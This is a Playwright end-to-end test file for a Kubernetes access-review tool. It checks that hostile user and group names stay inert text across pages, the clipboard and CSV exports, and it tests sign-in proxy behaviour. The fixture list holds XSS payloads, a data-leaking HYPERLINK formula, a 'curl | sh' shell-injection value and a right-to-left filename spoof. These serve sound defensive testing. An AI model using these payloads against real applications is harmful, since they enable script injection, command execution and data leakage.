import type { Page } from '@playwright/test';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { basename, resolve } from 'node:path';
import type { FindingPage } from '@/lib/store/types';
import { hostileNames, hostileObjects } from '@/lib/testing/hostile-cluster';
import { expect, findingList, test, visit } from './fixtures';
import { OtherLynceus } from './lynceus';

const hostile = resolve('e2e/fixtures/hostile-names.yaml');
const names = [
  ['User', '<img src=x onerror=alert(1)>'],
  ['User', '=HYPERLINK("http://example.com/?leak="&A1,"Click")'],
  ['User', '[click me](javascript:alert(1)) **bold** | `code`'],
  ['User', "'; curl example.com | sh; '"],
  ['User', 'admin\u202Egnp.exe'],
  ['Group', '👩‍💻 dev/ops, 100%2C ? #1'],
  ['Group', '</script><script>alert(2)</script>'],
] as const;

test('A file that is dropped on the page becomes a cluster, whose posture opens', async ({ page }) => {
  await visit(page, '/');
  await drop(page, hostile);
  const dialog = page.getByRole('dialog', { name: 'Add a cluster' });
  await expect(dialog.getByText('hostile-names.yaml')).toBeVisible();
  await expect(dialog.getByLabel('Name of the cluster')).toHaveValue('hostile-names');
  await dialog.getByRole('button', { name: 'Read them' }).click();

  await expect(page.getByRole('dialog', { name: 'Reading' })).toBeVisible();
  await expect(page).toHaveURL('/clusters/hostile-names', { timeout: 60_000 });
  await expect(page.getByRole('heading', { name: 'hostile-names' })).toBeVisible();
  await expect(page.getByRole('dialog')).toBeHidden();
});

for (const [kind, name] of names) {
  const shown = name.replace('\u202E', '�'); // what would turn the sentence round is shown as a mark
  test(`${kind} ${JSON.stringify(name)} is only ever text`, async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    await visit(page, `/clusters/hostile-names/subjects?${new URLSearchParams({ q: name })}`);
    await page
      .getByRole('link')
      .and(page.getByTitle(name, { exact: true }))
      .first()
      .click(); // long names are shortened
    await expect(page.getByRole('heading', { level: 1 })).toContainText(shown);
    await expect(page.getByRole('main')).toContainText(`${kind} ${shown} can do everything in the cluster`);

    await page.getByRole('link', { name: 'Open in the graph', exact: true }).click();
    await page.getByRole('radio', { name: 'Outline' }).click();
    await expect(page.getByRole('button', { name: `${kind} ${shown}` }).first()).toBeVisible();

    await visit(page, `/clusters/hostile-names/findings?${new URLSearchParams({ severity: 'critical', q: name })}`);
    await findingList(page).rows.first().getByRole('link').click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(
      `${kind} ${shown} can do everything in the cluster`,
    );
    await page.getByRole('button', { name: 'Copy for ticket' }).click();
    await page.getByRole('menuitem', { name: 'Markdown' }).click();
    const ticket = () => page.evaluate(() => navigator.clipboard.readText());
    await expect.poll(ticket).toMatch(/^### /);
    expect((await ticket()).split('\n')[0]).not.toMatch(/(?<!\\)<(img|script|\/)|(?<!\\)\[click|(?<!\\)\*\*bold/);

    await expect(page.locator('img, script:not([nonce]):not([src])').filter({ hasText: /alert|owned/ })).toHaveCount(0);
    await expect(page.locator('img[src=x]')).toHaveCount(0);
    expect(await page.title()).not.toContain('owned');
    expect(dialogs).toEqual([]);
  });
}

test('No cell of the CSV file begins a formula', async ({ page }) => {
  await visit(page, '/clusters/hostile-names/findings');
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'CSV' }).click()]);
  const csv = await readFile(await file.path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http`);
  expect(csv).not.toMatch(/(^|[,\n])"?[=+@-]/);
});

test('A file that cannot be read is named with document and line, and nothing of it is stored', async ({
  page,
  api,
}) => {
  const before = await api.clusters();
  await visit(page, '/');
  await page.getByRole('button', { name: /^Drop manifests/ }).click();
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: /^Choose files/ }).click(),
  ]);
  await chooser.setFiles('e2e/fixtures/broken.yaml');
  await page.getByLabel('Name of the cluster').fill('Broken one');
  await page.getByRole('button', { name: 'Read them' }).click();

  const problem = page.getByRole('alert').filter({ hasText: 'Nothing was stored' });
  await expect(problem).toContainText(/broken\.yaml, document 2, line \d+: not valid YAML/, { timeout: 60_000 });
  await expect.poll(() => api.clusters()).toEqual(before);
  await problem.getByRole('button', { name: 'Back' }).click();
  await expect(page.getByRole('button', { name: 'Read them' })).toBeVisible();
});

test('A cluster full of names that mean something somewhere looks like any other', async ({ page, request }) => {
  const objects = JSON.stringify({ apiVersion: 'v1', kind: 'List', items: hostileObjects });
  const sent = await request.post('/api/v1/imports?name=worst-names&file=worst.json', {
    data: Buffer.from(objects),
    headers: { 'content-type': 'application/octet-stream' },
  });
  expect(sent.ok(), await sent.text()).toBe(true);
  await expect
    .poll(async () => (await (await request.get('/api/v1/findings?cluster=worst-names')).json()).total ?? 0, {
      timeout: 60_000,
    })
    .toBeGreaterThan(0);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const cluster = '/clusters/worst-names';
  const team = new URLSearchParams({ of: 'team', team: hostileNames[4] });
  const looked = [
    ...['', '/findings', '/subjects', '/roles', '/bindings', '/dead-grants', '/workloads', '/attack-paths'],
    ...['/access', '/matrix', '/who-can?verb=get&resource=secrets', '/network', '/images', '/coverage'],
  ].map((path) => cluster + path);
  for (const path of ['/', ...looked, `/findings?q=gnp`, `/reports?${team}`, `/reports/print?${team}`]) {
    await page.goto(path);
    await expect(page.locator('h1').first()).toBeVisible();
    const { title, wide, marks } = await page.evaluate(() => ({
      title: document.title,
      wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      marks: /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText),
    }));
    expect([path, title.includes('gnp'), wide, marks]).toEqual([path, false, 0, false]);
    await expect(page.locator('img[src="x"], svg[onload], main script:not([nonce])')).toHaveCount(0);
  }
  await page.goto(`${cluster}/subjects?q=gnp`);
  await expect(page.getByRole('main')).toContainText('admin\ufffdgnp.exe\ufffd');
  expect(dialogs).toEqual([]);
  expect((await request.delete('/api/v1/clusters/worst-names')).ok()).toBe(true);
});

test('Behind a sign-in who did not come through it learns nothing, and who did has their name', async ({
  browser,
  playwright,
}) => {
  test.setTimeout(180_000);
  const secret = 'known to the proxy and to Lynceus';
  const through = { 'x-lynceus-proxy-secret': secret, 'x-forwarded-email': 'ada@example.org' };
  const other = new OtherLynceus();
  try {
    expect(other.run('import', hostile, '--cluster', 'secret-till').status).toBe(0);
    await other.serving(
      async (baseURL) => {
        const stranger = await playwright.request.newContext({
          baseURL,
          extraHTTPHeaders: { 'x-forwarded-email': 'ada@example.org' },
        });
        const pages = ['/', '/clusters/secret-till', '/clusters/none', '/f/none', '/reports/print?of=cluster'];
        const texts = await Promise.all(pages.map(async (path) => (await stranger.get(path)).text()));
        expect(new Set(texts).size).toBe(1);
        expect(texts[0]).toContain('This needs a sign-in');
        for (const path of ['/api/v1/clusters', '/api/v1/findings', '/api/v1/openapi.json', '/api/v1/person'])
          expect((await stranger.get(path)).status(), path).toBe(401);
        expect(await (await stranger.get('/api/readyz')).json()).toEqual({ status: 'ready' });
        await stranger.dispose();

        const context = await browser.newContext({ baseURL, extraHTTPHeaders: through });
        const page = await context.newPage();
        await visit(page, '/');
        await expect(page.getByRole('link', { name: 'secret-till' }).first()).toBeVisible();
        await page.getByRole('button', { name: 'You are ada@example.org' }).click();
        await expect(page.getByRole('dialog', { name: 'You are signed in' })).toContainText(
          'it cannot be changed here',
        );
        const said = await context.request.post('/api/v1/person', { data: { name: 'eve' } });
        expect(said.status()).toBe(403);
        await context.close();
      },
      { LYNCEUS_SIGN_IN_HEADER: 'X-Forwarded-Email', LYNCEUS_SIGN_IN_SECRET: secret },
    );
  } finally {
    other.remove();
  }
});

const files = [hostile, resolve('../shared/data/clusters/argocd-shop-goat.json.gz')].filter((file) => {
  if (existsSync(file)) return true;
  console.log(`Not compared with the command line, for it is not here: ${file}`);
  return false;
});
for (const file of files) {
  const name = basename(file).replace(/\..*/, '');
  test(`By drop and by command line ${basename(file)} gives the same findings`, async ({
    page,
    request,
    playwright,
  }) => {
    test.setTimeout(240_000);
    await visit(page, '/');
    await drop(page, file);
    await page.getByRole('button', { name: 'Read them' }).click();
    await expect(page).toHaveURL(`/clusters/${name}`, { timeout: 120_000 });
    const dropped = await findingsOf(name, (path) => request.get(path));
    expect(dropped.length).toBeGreaterThan(0);

    const other = new OtherLynceus();
    try {
      expect(other.run('import', file, '--cluster', name)).toMatchObject({ status: 0, stderr: '' });
      const again = other.run('import', file, '--cluster', name);
      expect(again.stdout).toContain(`findings 0 new 0 fixed ${dropped.length} unchanged`);
      await other.serving(async (baseURL) => {
        const api = await playwright.request.newContext({ baseURL });
        expect(await findingsOf(name, (path) => api.get(path))).toEqual(dropped);
        await api.dispose();
      });
    } finally {
      other.remove();
    }
  });
}

/** Permanent id, control and message of every finding of a cluster. */
async function findingsOf(cluster: string, get: (path: string) => Promise<{ json(): Promise<FindingPage> }>) {
  const all: string[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const query: string = `cluster=${cluster}&limit=500${cursor && `&cursor=${encodeURIComponent(cursor)}`}`;
    const page: FindingPage = await (await get(`/api/v1/findings?${query}`)).json();
    all.push(...page.items.map(({ id, control, message }) => `${id} ${control} ${message}`));
    cursor = page.nextCursor;
  }
  return all.sort();
}

/** Drags a file of this machine over the page and lets it go, as a hand does. */
async function drop(page: Page, file: string) {
  const browser = await page.context().newCDPSession(page);
  const data = { items: [], files: [file], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await browser.send('Input.dispatchDragEvent', { type, x: 600, y: 400, data });
  await browser.detach();
}
